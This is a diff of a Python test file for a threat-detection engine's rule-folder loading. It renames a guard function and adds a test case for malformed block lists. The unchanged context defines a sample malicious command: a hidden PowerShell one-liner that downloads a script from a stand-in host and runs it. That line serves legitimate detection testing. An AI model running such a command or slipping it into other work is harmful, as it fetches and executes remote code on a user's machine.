@@ -10,10 +10,10 @@ from pathlib import Path
 import pytest
 
 from app.commands import EXIT_FLAGGED, EXIT_OK
-from app.commands.rules import run_check
+from app.commands.rules import guard_rule_folders, run_check
 from app.detection import Engine, Level
 from app.detection.rules import default_rules_dir
-from app.detection.rulesets import check_rule_paths, guard_rule_paths
+from app.detection.rulesets import check_rule_paths
 
 MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
 
@@ -43,6 +43,9 @@ def bad_folders(tmp_path: Path) -> dict[str, Path]:
             tmp_path, "dup", "rules:\n" + rule("PG-WIN-PS-DOWNLOAD-EXECUTE", "zzz")
         ),
         "does not compile as a set": folder_with(tmp_path, "heavy", "rules:\n" + heavy),
+        "bad lists": folder_with(
+            tmp_path, "lists", "lists:\n  block_hosts: 7\nrules:\n" + rule("CUSTOM-OK", "zzz")
+        ),
     }
 
 
@@ -54,13 +57,13 @@ def check_exit(paths: list[Path]) -> int:
 
 
 @pytest.mark.parametrize(
-    "kind", ["missing", "malformed", "built-in id", "does not compile as a set"]
+    "kind", ["missing", "malformed", "built-in id", "does not compile as a set", "bad lists"]
 )
 def test_a_folder_that_does_not_load_is_skipped_and_refused_by_rules_check(
     tmp_path: Path, kind: str
 ) -> None:
     folder = bad_folders(tmp_path)[kind]
-    paths, problem = guard_rule_paths(str(folder))
+    paths, problem = guard_rule_folders(str(folder))
     assert paths == [default_rules_dir()]  # the built-in rules, and nothing else
     assert problem is not None and str(folder) in problem
     assert check_exit([folder]) == EXIT_FLAGGED  # the check refuses what the guard skips
@@ -72,7 +75,7 @@ def test_a_folder_that_loads_is_used_and_passes_the_check(tmp_path: Path) -> Non
     folder = folder_with(
         tmp_path, "good", "rules:\n" + rule("CUSTOM-ACME-LURE", "acme-verify-7731")
     )
-    paths, problem = guard_rule_paths(str(folder))
+    paths, problem = guard_rule_folders(str(folder))
     assert problem is None and paths == [default_rules_dir(), folder]
     assert check_exit([folder]) == EXIT_OK
     rules, errors = check_rule_paths([folder])
